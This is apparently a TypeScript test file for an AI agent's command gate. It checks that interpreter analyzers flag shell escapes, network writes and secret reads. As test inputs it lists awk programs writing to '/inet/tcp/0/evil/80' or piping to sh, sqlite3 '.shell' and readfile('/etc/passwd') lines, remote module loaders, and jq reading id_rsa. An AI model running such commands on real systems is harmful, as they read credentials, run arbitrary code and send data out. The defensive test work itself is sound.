// Interpreters, awk and sqlite3, each on its own through a recording Scan.
import assert from "node:assert/strict";
import { test } from "node:test";
import { awkProgramEffects, sqliteReach } from "../../agent-runtime/gate/analyzers/interpreters.ts";
import { analyzerFor } from "../../agent-runtime/gate/analyzers/table.ts";
import type { Recorded } from "../support/recording-scan.ts";
import { runAnalyzer } from "../support/recording-scan.ts";

const run = (line: string[], options?: { stdinIsData?: boolean }): Recorded => {
  const [name = "", ...args] = line;
  return runAnalyzer(analyzerFor(name), name, args, options);
};
const opaque = (r: Recorded) =>
  r.findings.classes().includes("UNKNOWN") &&
  r.findings.classes().includes("EXIT") &&
  r.findings.classes().includes("SECRET");

test("code on the command line is opaque, in every spelling of the flag", () => {
  const lines = [
    ["python3", "-c", "x"],
    ["python3", "-Ic", "x"],
    ["python3", "-c", "x", "arg1", "arg2"],
    ["python3", "-cx"],
    ["python", "-W", "ignore", "-c", "x"],
    ["python", "-X", "dev", "-Bc", "x"],
    ["python3.12", "-c", "x"],
    ["python3", "-m", "timeit", "x"],
    ["python3", "-mtimeit", "x"],
    ["node", "-e", "x"],
    ["node", "-pe", "x"],
    ["node", "--eval", "x"],
    ["node", "--eval=x"],
    ["node", "--print", "x"],
    ["node", "--import", "data:text/javascript,x", "app.js"],
    ["node", "--import=data:text/javascript,x", "app.js"],
    ["node", "--experimental-loader=https://x.example/l.mjs", "app.js"],
    ["perl", "-e", "x"],
    ["perl", "-le", "x"],
    ["perl", "-l0e", "x"],
    ["perl", "-Mstrict", "-E", "x"],
    ["perl", "-ne", "x", "f"],
    ["ruby", "-e", "x"],
    ["ruby", "-rsocket", "-e", "x"],
    ["php", "-r", "x"],
    ["php", "-d", "auto_prepend_file=x", "f.php"],
    ["lua", "-e", "x"],
    ["Rscript", "-e", "x"],
    ["julia", "-e", "x"],
    ["pwsh", "-c", "x"],
    ["pwsh", "-EncodedCommand", "eA=="],
    ["deno", "eval", "x"],
    ["deno", "run", "https://x.example/m.ts"],
    ["tsx", "-e", "x"],
    ["ts-node", "-e", "x"],
    ["m4", "f.m4"],
  ];
  for (const line of lines) assert.ok(opaque(run(line)), line.join(" "));
});

test("code from stdin is opaque; a script file is local code (class 7), not opaque", () => {
  for (const line of [
    ["python3"],
    ["python3", "-"],
    ["node"],
    ["node", "-"],
    ["perl"],
    ["ruby"],
    ["php"],
    ["irb"],
  ])
    assert.ok(opaque(run(line, { stdinIsData: true })), line.join(" "));
  const cases: Array<[string[], string, string[]]> = [
    [["python3", "x.py", "--flag"], "python", ["x.py"]],
    [["python3", "-u", "x.py"], "python", ["x.py"]],
    [["python3", "-m", "mypkg.tool"], "python", ["mypkg/tool.py"]],
    [["node", "x.js"], "node", ["x.js"]],
    [["node", "--enable-source-maps", "dist/x.js"], "node", ["dist/x.js"]],
    [["tsx", "src/x.ts"], "node", ["src/x.ts"]],
    [["deno", "run", "-A", "x.ts"], "node", ["x.ts"]],
    [["perl", "x.pl"], "perl", ["x.pl"]],
    [["perl", "-ie", "x.pl"], "perl", ["x.pl"]],
    [["ruby", "x.rb"], "ruby", ["x.rb"]],
    [["php", "x.php"], "php", ["x.php"]],
    [["lua", "x.lua"], "interpreter", ["x.lua"]],
    [["awk", "-f", "x.awk", "data"], "interpreter", ["x.awk"]],
  ];
  for (const [line, kind, files] of cases) {
    const record = run(line);
    assert.equal(opaque(record), false, line.join(" "));
    assert.deepEqual(
      record.localCode.map((l) => [l.kind, l.files]),
      [[kind, files]],
      line.join(" "),
    );
  }
  assert.deepEqual(
    run(["node", "-r", "./setup.js", "x.js"]).localCode.map((l) => l.files),
    [["./setup.js"], ["x.js"]],
    "a preloaded local module is local code too",
  );
  assert.deepEqual(run(["node", "--test"]).localCode[0]?.kind, "test-runner");
  assert.deepEqual(run(["node", "--run", "build"]).localCode[0]?.targets, ["build"]);
  assert.ok(run(["node", "--run", "deploy"]).findings.classes().includes("EXIT"));
  assert.deepEqual(run(["node", "--check", "x.js"]).localCode, []);
  assert.deepEqual(run(["python3", "--version"]).findings.classes(), ["READ"]);
});

test("python -m dispatches known modules to their programs; servers and mail clients are exits", () => {
  assert.deepEqual(run(["python3", "-m", "pip", "install", "x"]).commands[0]?.words, ["pip", "install", "x"]);
  assert.deepEqual(run(["python", "-m", "pytest", "-q"]).commands[0]?.words, ["pytest", "-q"]);
  assert.deepEqual(run(["python", "-m", "twine", "upload", "d"]).commands[0]?.words, [
    "twine",
    "upload",
    "d",
  ]);
  for (const module of [
    "http.server",
    "SimpleHTTPServer",
    "smtpd",
    "pyftpdlib",
    "uploadserver",
    "xmlrpc.server",
  ])
    assert.ok(run(["python3", "-m", module]).findings.classes().includes("EXIT"), module);
  for (const module of ["webbrowser", "smtplib", "ftplib"])
    assert.ok(run(["python3", "-m", module, "x"]).findings.classes().includes("EXIT"), module);
  assert.ok(run(["python3", "-m", "pydoc", "-p", "0"]).findings.classes().includes("EXIT"));
  assert.deepEqual(run(["python3", "-m", "zipfile", "-e", "a.zip", "out"]).treeWrites, ["out"]);
  assert.deepEqual(run(["python3", "-m", "cProfile", "x.py"]).localCode[0]?.files, ["x.py"]);
  assert.ok(opaque(run(["python3", "-m", "…"])));
});

test("node options that read env files, open debug ports or load engines are seen", () => {
  assert.deepEqual(run(["node", "--env-file=.env", "x.js"]).paths[0], { path: ".env", access: "read" });
  assert.ok(run(["node", "--inspect=0.0.0.0:9229", "x.js"]).findings.classes().includes("EXIT"));
  assert.ok(run(["node", "--inspect-brk", "x.js"]).findings.classes().includes("EXIT"));
  assert.deepEqual(run(["node", "--openssl-config=x.cnf", "x.js"]).localCode[0]?.files, ["x.cnf"]);
  assert.deepEqual(run(["node", "--redirect-warnings=w.log", "x.js"]).paths[0], {
    path: "w.log",
    access: "write",
  });
});

test("servers started by interpreters: php -S, ruby -run", () => {
  assert.ok(run(["php", "-S", "localhost:8000"]).findings.classes().includes("EXIT"));
  assert.ok(run(["ruby", "-run", "-e", "httpd", ".", "-p", "8000"]).findings.classes().includes("EXIT"));
  assert.ok(run(["ruby", "-r", "un", "-e", "httpd"]).findings.classes().includes("EXIT"));
});

test("awk programs: commands, pipes, coprocesses, network files, directives are seen outside strings and regexes", () => {
  const runs = [
    'BEGIN{system("id")}',
    'BEGIN { system ("id") }',
    'BEGIN{"id" | getline x}',
    '{print | "sh"}',
    'BEGIN{c="sh"; print "id" | c}',
    'BEGIN{print "x" |& "/inet/tcp/0/h/80"}',
    'BEGIN{printf "x" > "/inet/tcp/0/evil/80"}',
    'BEGIN{f="system"; @f("id")}',
    '@load "filefuncs"; BEGIN{}',
    '@include "x.awk"',
    'BEGIN{while ((c="id") | getline l) print l}',
  ];
  for (const program of runs) assert.ok(awkProgramEffects(program).runs, program);
  const safe = [
    "{print $1}",
    "/error|warn/ {print}",
    '$1 == "a" || $2 == "b" {print}',
    "NR > 1 && $3 > 10 {s += $3} END {print s / NR}",
    '{ gsub(/a|b/, "c"); print }',
    "# a | comment\n{print}",
    '{print "a|b"}',
  ];
  for (const program of safe) assert.equal(awkProgramEffects(program).runs, undefined, program);
  assert.equal(awkProgramEffects('{print > "out.txt"}').writes, true);
  assert.equal(awkProgramEffects("{print $1 > 5}").writes, true);
  assert.equal(awkProgramEffects("{if ($1 > 5) print}").writes, false);
  assert.equal(awkProgramEffects('{getline line < "/etc/passwd"}').reads, true);
  assert.equal(awkProgramEffects('BEGIN{print ENVIRON["TOKEN"]}').environ, true);
});

test("the awk analyzer: opaque when the program runs commands, unless --sandbox", () => {
  assert.ok(opaque(run(["awk", 'BEGIN{system("id")}'])));
  assert.ok(opaque(run(["gawk", "-e", 'BEGIN{system("id")}'])));
  assert.ok(opaque(run(["gawk", "-l", "filefuncs", "BEGIN{}"])));
  assert.ok(opaque(run(["mawk", "-W", "exec", "x.awk"])));
  assert.ok(opaque(run(["awk", "…"])));
  assert.equal(opaque(run(["gawk", "--sandbox", 'BEGIN{system("id")}'])), false);
  assert.ok(run(["awk", 'BEGIN{print ENVIRON["HOME"]}']).findings.classes().includes("SECRET"));
  const plain = run(["awk", "-F:", "-v", "x=1", "{print $1}", "data.txt", "n=2"]);
  assert.deepEqual(plain.findings.classes(), ["READ"]);
  assert.deepEqual(plain.paths, [{ path: "data.txt", access: "read" }]);
});

test("sqlite3: dot-commands and functions that reach files or commands are opaque; plain SQL is local", () => {
  for (const sql of [
    ".shell id",
    ".system id",
    ".sh id",
    ".output |id",
    ".once '|id'",
    ".read '|id'",
    ".load ./x",
    ".import '|id' t",
    "select load_extension('./x')",
    "select readfile('/etc/passwd')",
    "select writefile('x', 'y')",
    "ATTACH '/tmp/x' AS y",
    "select 1;\n  .shell id",
  ])
    assert.ok(sqliteReach(sql), sql);
  for (const sql of ["select * from t", ".tables", ".schema t", ".mode csv", ".headers on"])
    assert.equal(sqliteReach(sql), undefined, sql);
  assert.ok(opaque(run(["sqlite3", "db", ".shell id"])));
  assert.ok(opaque(run(["sqlite3", "-cmd", ".sh id", "db"])));
  assert.ok(opaque(run(["sqlite3", "-init", "x.sql", "db"])));
  assert.ok(opaque(run(["sqlite3"], { stdinIsData: true })));
  assert.deepEqual(run(["sqlite3", "db", "select 1"]).findings.classes(), ["WRITE"]);
});

test("jq and yq: env and $ENV read the environment; --rawfile reads a file", () => {
  assert.ok(run(["jq", "-n", "env"]).findings.classes().includes("SECRET"));
  assert.ok(run(["jq", "-n", "$ENV.TOKEN"]).findings.classes().includes("SECRET"));
  assert.ok(run(["yq", "-n", "env(HOME)"]).findings.classes().includes("SECRET"));
  assert.deepEqual(run(["jq", ".a", "package.json"]).findings.classes(), ["READ"]);
  const raw = run(["jq", "--rawfile", "k", "id_rsa", "-n", "$k"]);
  assert.ok(raw.paths.some((p) => p.path === "id_rsa" && p.access === "read"));
});
